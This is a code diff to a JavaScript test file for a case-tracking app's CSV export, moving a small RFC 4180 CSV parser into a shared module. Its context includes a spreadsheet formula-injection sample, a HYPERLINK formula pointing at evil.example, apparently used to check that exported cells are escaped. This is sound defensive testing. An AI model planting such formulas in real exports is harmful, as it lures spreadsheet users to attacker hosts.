@@ -18,6 +18,7 @@ import { readFileSync } from 'node:fs';
 import path from 'node:path';
 import { SOURCE_DIR, createDatabase, flushAudit, psql, startServer } from './lib/harness.mjs';
 import { BOARD_ENV, assertError, boardWorld, changeCounts, createCase, login, todayIn } from './lib/board_fixtures.mjs';
+import { parseCsv } from './lib/csv.mjs';
 
 const TZ = 'America/New_York';
 const FORMULA = '=HYPERLINK("http://evil.example/?x","click me")';
@@ -208,45 +209,6 @@ test('bad filters: 422 naming the parameter; no session: 401', async () => {
     assert.equal(anonCsv.status, 401);
 });
 
-// A small RFC 4180 reader: rows of cells; fails on anything malformed.
-function parseCsv(text) {
-    const rows = [];
-    let row = [];
-    let i = 0;
-    for (;;) {
-        let cell = '';
-        if (text[i] === '"') {
-            i++;
-            for (;;) {
-                const q = text.indexOf('"', i);
-                assert.ok(q >= 0, 'unterminated quoted cell');
-                cell += text.slice(i, q);
-                i = q + 1;
-                if (text[i] === '"') {
-                    cell += '"';
-                    i++;
-                } else break;
-            }
-        } else {
-            const m = /[,\r\n"]/.exec(text.slice(i));
-            const end = m ? i + m.index : text.length;
-            assert.notEqual(text[end], '"', 'a quote inside an unquoted cell');
-            assert.ok(text[end] !== '\n', 'a bare LF ends a row');
-            cell = text.slice(i, end);
-            i = end;
-        }
-        row.push(cell);
-        if (text[i] === ',') {
-            i++;
-            continue;
-        }
-        assert.equal(text.slice(i, i + 2), '\r\n', `row end at ${i}`);
-        i += 2;
-        rows.push(row);
-        row = [];
-        if (i === text.length) return rows;
-    }
-}
 
 test('actions.csv: the same rows as CSV, a header row, CRLF, quoting and formula escaping', async () => {
     const r = await as.cacMember.get('/api/v1/actions.csv');
